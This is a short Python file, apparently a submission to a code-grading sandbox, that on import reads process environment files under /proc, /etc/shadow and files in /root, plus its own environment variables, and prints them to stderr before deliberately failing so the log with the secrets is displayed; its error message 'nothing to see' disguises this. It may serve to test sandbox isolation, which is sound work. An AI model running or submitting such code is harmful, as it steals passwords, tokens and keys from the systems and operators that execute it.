# expect: COMPILE_ERROR, RUNTIME_ERROR
# Prints whatever secrets it finds, and fails so that its log is shown.
from __future__ import annotations

import os
import sys
from pathlib import Path

for path in [*Path("/proc").glob("[0-9]*/environ"), Path("/etc/shadow"), *Path("/root").glob("*")]:
    try:
        print(path.read_bytes()[:2000], file=sys.stderr)
    except OSError:
        pass
print(os.environ, file=sys.stderr)


def run(x, y):
    raise RuntimeError("error: nothing to see")
